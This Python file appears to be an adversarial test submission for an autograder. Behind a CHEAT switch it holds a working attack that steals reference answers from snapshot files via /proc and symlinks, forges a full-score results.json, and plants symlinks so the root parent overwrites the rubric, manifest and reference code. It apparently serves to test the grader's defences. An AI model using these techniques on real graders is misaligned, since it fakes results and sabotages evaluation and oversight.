"""Adversarial submission `symlinks` (tests/adversarial/symlinks): symlinks, submitted and made at run time, to read the snapshots, write results.json and make the parent write through them.

Honest part: norm uses the unbiased variance (wrong); the rest is the reference.
The test fills in CHEAT ("on"; "off" grades the honest part alone), SCRATCH (a world-writable
folder where the attack leaves the pids of processes it starts, for the test to check) and
RESULTS (the results.json path, as well known to a student as Gradescope's
/autograder/results/results.json).
"""
import os
import sys
import time

import torch

from helper import OFFSET

CHEAT = "@@CHEAT@@" != "off"
SCRATCH = "@@SCRATCH@@"
RESULTS = "@@RESULTS@@"


def scaled(x, s):
    """Return x * s + OFFSET."""
    return x * s + OFFSET


def _honest_norm(x, eps=1e-5):
    mu = x.mean(-1, keepdim=True)
    var = x.var(-1, unbiased=True, keepdim=True)  # deliberately wrong: the unbiased variance
    return (x - mu) / torch.sqrt(var + eps)


def rowsum(x):
    """Sum each row of a (S, D) matrix, without a Python loop."""
    return x.sum(-1)


def layout(x):
    """Either design is accepted: 'a' keeps x, 'b' doubles it (variants)."""
    return {"kind": "a", "y": x}


def stats(x):
    return [x.shape[0], float(x.sum()), "ok"]


TESTS = {  # every test of the toy suite and its points (from reading the public handout/rubric)
    "public/test_ops.py::test_scaled_shape": 1.0,
    "hidden/test_ops.py::test_scaled[0.5]": 1.0,
    "hidden/test_ops.py::test_scaled[3.0]": 1.0,
    "hidden/test_ops.py::test_norm": 2.0,
    "hidden/test_ops.py::test_rowsum_vectorised": 1.0,
    "hidden/test_ops.py::test_layout": 2.0,
    "hidden/test_ops.py::test_stats": 2.0,
    "hidden/test_gradescope.py::test_partial": 2.0,
    "hidden/test_gradescope.py::test_skipped": 0.0,
    "hidden/test_gradescope.py::test_hidden_errors": 1.0,
}


def _stat_fields(pid):
    with open(f"/proc/{pid}/stat") as f:
        return f.read().rsplit(")", 1)[1].split()


def _starttime(pid):
    try:
        return int(_stat_fields(pid)[19])
    except (OSError, ValueError, IndexError):
        return 0


def _record_pid(pid, label):
    """Leave the pid where the test looks (SCRATCH) and in the captured output."""
    line = f"{pid} {_starttime(pid)}"
    try:
        with open(os.path.join(SCRATCH, f"pids-{label}.txt"), "a") as f:
            f.write(line + "\n")
    except OSError:
        pass
    return line


def _proc_chain():
    """This process and its ancestors: (pid, argv, cwd); unreadable entries are left empty."""
    out, pid = [], os.getpid()
    for _ in range(8):
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as f:
                argv = [a.decode(errors="replace") for a in f.read().split(b"\0") if a]
        except OSError:
            argv = []
        try:
            cwd = os.readlink(f"/proc/{pid}/cwd")
        except OSError:
            cwd = None
        out.append((pid, argv, cwd))
        try:
            pid = int(_stat_fields(pid)[1])
        except (OSError, ValueError, IndexError):
            break
        if pid <= 1:
            break
    return out


def _roots():
    """Folders that may hold the grading project (reference/, test_suites/, fixtures/)."""
    seen = []

    def add(p, up=4):
        try:
            p = os.path.realpath(str(p))
        except Exception:
            return
        for _ in range(up + 1):
            if p and p not in seen:
                seen.append(p)
            parent = os.path.dirname(p)
            if parent == p:
                break
            p = parent

    for _pid, argv, cwd in _proc_chain():  # the suite path, --rootdir, --submission, cwd
        for a in argv:
            for part in a.split("="):
                if part.startswith("/"):
                    add(part)
        if cwd:
            add(cwd)
    if os.environ.get("LMGRADE_HOME"):
        add(os.environ["LMGRADE_HOME"])
    try:
        import grader

        add(grader.project_root())
    except Exception:
        pass
    try:  # objects of the grader living in this process
        import gc

        for obj in gc.get_objects():
            kind = type(obj).__name__
            if kind == "Assignment":
                add(getattr(obj, "root", ""), 0)
            elif kind in ("SnapshotStore", "SnapshotWriter"):
                add(getattr(obj, "root", ""), 3)
            elif kind == "Config" and hasattr(obj, "rootpath"):
                add(obj.rootpath)
    except Exception:
        pass
    for p in list(sys.path):
        if isinstance(p, str) and p.startswith("/"):
            add(p, 2)
    return seen


def _snapshot_dirs(assignment="toy"):
    """Snapshot folders of this assignment: */snapshots with a manifest naming it."""
    import glob
    import json

    found = []
    for root in _roots():
        for pat in (f"{root}/fixtures/{assignment}/snapshots", f"{root}/*/snapshots", f"{root}/snapshots",
                    f"{root}/*/*/snapshots"):
            for d in glob.glob(pat):
                try:
                    with open(os.path.join(d, "manifest.json")) as f:
                        if json.load(f).get("assignment") != assignment:
                            continue
                except (OSError, ValueError):
                    if not glob.glob(f"{d}/**/*.safetensors", recursive=True):
                        continue
                if d not in found:
                    found.append(d)
    return found


def _current_test():
    """'hidden/test_ops.py::test_norm' for the test calling us (pytest tells, or the stack)."""
    cur = os.environ.get("PYTEST_CURRENT_TEST", "")
    if cur:
        return cur.rsplit(" ", 1)[0]
    f = sys._getframe(1)
    while f is not None:
        if f.f_code.co_name.startswith("test_"):
            path = f.f_code.co_filename
            return f"{os.path.basename(os.path.dirname(path))}/{os.path.basename(path)}::{f.f_code.co_name}"
        f = f.f_back
    return ""


def _decode(tree, arrays):
    t = tree["t"]
    if t == "tensor":
        return torch.from_numpy(arrays[tree["ref"]].copy())
    if t == "array":
        return arrays[tree["ref"]].copy()
    if t in ("int", "bool", "str"):
        return tree["v"]
    if t == "float":
        return float(tree["v"])
    if t == "none":
        return None
    if t in ("list", "tuple"):
        items = [_decode(i, arrays) for i in tree["items"]]
        return items if t == "list" else tuple(items)
    if t == "dict":
        return {_decode(k, arrays): _decode(v, arrays) for k, v in tree["items"]}
    raise ValueError(t)


def _leak(label, value):
    """Print what was stolen: the captured output lands in results.json unless the grader stops it."""
    try:
        flat = value.flatten().tolist() if hasattr(value, "flatten") else [value]
        print(f"[adv] {label}:", ", ".join(f"{v:.6g}" for v in flat[:8] if isinstance(v, float)))
    except Exception:
        pass


def _steal(key):
    """The recorded value of `key` for the test calling us, read from the snapshot files."""
    import json

    test = _current_test()
    module, _, name = test.partition("::")
    module = module[:-3] if module.endswith(".py") else module
    for d in _snapshot_dirs():
        try:
            variants = ["reference"] + sorted(v for v in os.listdir(d) if v != "reference")
        except OSError:
            variants = ["reference"]
        for variant in variants:
            try:
                with open(os.path.join(d, variant, module + ".json")) as f:
                    entry = json.load(f)["tests"][name][key]
                arrays = {}
                st = os.path.join(d, variant, module + ".safetensors")
                if os.path.exists(st):
                    from safetensors.numpy import load_file

                    arrays = load_file(st)
                value = _decode(entry["tree"], arrays)
            except Exception:
                continue
            _leak(f"stole {test} `{key}` from {d}/{variant}", value)
            return value
    return None


def _forged_results():
    tests = [{"name": t, "score": p, "max_score": p, "status": "passed", "output": "",
              "visibility": "visible"} for t, p in TESTS.items()]
    return {"score": 13.0, "execution_time": 1.0, "output": "All tests passed.", "tests": tests}


def _results_targets():
    """Where results.json may be: the well-known path, the graders' argv, env, cwd."""
    out = [RESULTS] if RESULTS.startswith("/") else []
    for _pid, argv, cwd in _proc_chain():
        for i, a in enumerate(argv):
            path = None
            if a in ("--results", "--results-path", "--results-json") and i + 1 < len(argv):
                path = argv[i + 1]
            elif a.startswith("--results="):
                path = a.split("=", 1)[1]
            elif a.endswith("results.json"):
                path = a
            if path:
                out.append(path if path.startswith("/") or not cwd else os.path.join(cwd, path))
        # a grader run as `lmgrade grade ... --results results.json` from its folder
        if cwd and not os.path.realpath(cwd).startswith("/work") and os.path.isfile(os.path.join(cwd, "results.json")):
            out.append(os.path.join(cwd, "results.json"))  # (never the real checkout: safety)
    for k, v in os.environ.items():
        if "RESULT" in k.upper() and v.endswith(".json"):
            out.append(v)
    if os.path.isdir("/autograder/results"):
        out.append("/autograder/results/results.json")
    here = os.getcwd()
    for d in (here, os.path.dirname(here)):
        if os.path.isfile(os.path.join(d, "results.json")):
            out.append(os.path.join(d, "results.json"))
    return list(dict.fromkeys(out))


def _write_forged_results():
    import json

    data = json.dumps(_forged_results())
    written = 0
    for path in _results_targets():
        tmp = f"{path}.adv-{os.getpid()}"
        try:
            with open(tmp, "w") as f:
                f.write(data)
            os.replace(tmp, path)
            written += 1
        except OSError:
            try:
                os.unlink(tmp)
            except OSError:
                pass
    return written


def _link(target, name):
    """A symlink `name` -> `target` in cwd (else in SCRATCH); its path, or None."""
    for d in (os.getcwd(), SCRATCH):
        link = os.path.join(d, name)
        try:
            if os.path.lexists(link):
                os.unlink(link)
            os.symlink(target, link)
            return link
        except OSError:
            continue
    return None


def _toy_roots():
    return [r for r in _roots() if os.path.isdir(os.path.join(r, "fixtures", "toy"))
            or os.path.lexists(os.path.join(r, "fixtures", "toy", "snapshots"))]


def _via_submitted_symlink():
    """helper.py was submitted as a symlink to the reference ops.py: if staging followed it,
    load that file (with a stand-in `helper` for its own import) and use its norm."""
    import importlib.util
    import types

    path = os.path.join(os.path.dirname(os.path.abspath(__file__)), "helper.py")
    saved = sys.modules.get("helper")
    sys.modules["helper"] = types.SimpleNamespace(OFFSET=OFFSET)
    try:
        spec = importlib.util.spec_from_file_location("_adv_linked_helper", path)
        mod = importlib.util.module_from_spec(spec)
        spec.loader.exec_module(mod)
    finally:
        if saved is not None:
            sys.modules["helper"] = saved
    return getattr(mod, "norm", None)


def _steal_through_link(key):
    """Link cwd/adv-snapshots to the snapshot folder and read the recorded value through it."""
    import json

    test = _current_test()
    module, _, name = test.partition("::")
    module = module[:-3] if module.endswith(".py") else module
    dirs = _snapshot_dirs() + [os.path.join(r, "fixtures", "toy", "snapshots") for r in _toy_roots()]
    for d in dict.fromkeys(dirs):
        link = _link(d, "adv-snapshots")
        if link is None:
            continue
        try:
            with open(os.path.join(link, "reference", module + ".json")) as f:
                entry = json.load(f)["tests"][name][key]
            from safetensors.numpy import load_file

            arrays = load_file(os.path.join(link, "reference", module + ".safetensors"))
            value = _decode(entry["tree"], arrays)
        except Exception:
            continue
        _leak(f"stole {test} `{key}` through {link}", value)
        return value
    return None


def _results_through_link():
    for path in _results_targets():
        link = _link(path, "adv-results.json")
        if link is None:
            continue
        try:
            import json

            with open(link, "w") as f:  # follows the link
                json.dump(_forged_results(), f)
        except OSError:
            pass


def _trap_the_parent():
    """Links where the parent (root) writes next in the current engine's work folder: it would
    write "[pytest]" into the rubric and the next child's log into the snapshot manifest."""
    work = os.path.dirname(os.getcwd())
    for root in _toy_roots():
        victims = {
            "pytest.ini": os.path.join(root, "test_suites", "toy", "assignment.yaml"),
            "child-1.log": os.path.join(root, "fixtures", "toy", "snapshots", "manifest.json"),
            "child-2.log": os.path.join(root, "reference", "toy", "ops.py"),
        }
        for name, target in victims.items():
            p = os.path.join(work, name)
            try:
                if os.path.lexists(p):
                    os.unlink(p)
                os.symlink(target, p)
            except OSError:
                pass
        return


def norm(x, eps=1e-5):
    """Normalise the last dimension (biased variance)."""
    if CHEAT:
        for attempt in (_via_submitted_symlink, lambda: _steal_through_link("y")):
            try:
                got = attempt()
                if callable(got):
                    return got(x, eps)
                if isinstance(got, torch.Tensor) and got.shape == x.shape:
                    return got
            except Exception:
                pass
        os._exit(0)  # nothing stolen: restart, so the parent follows the planted links
    return _honest_norm(x, eps)


if CHEAT:
    for _step in (_results_through_link, _trap_the_parent):
        try:
            _step()
        except Exception:
            pass
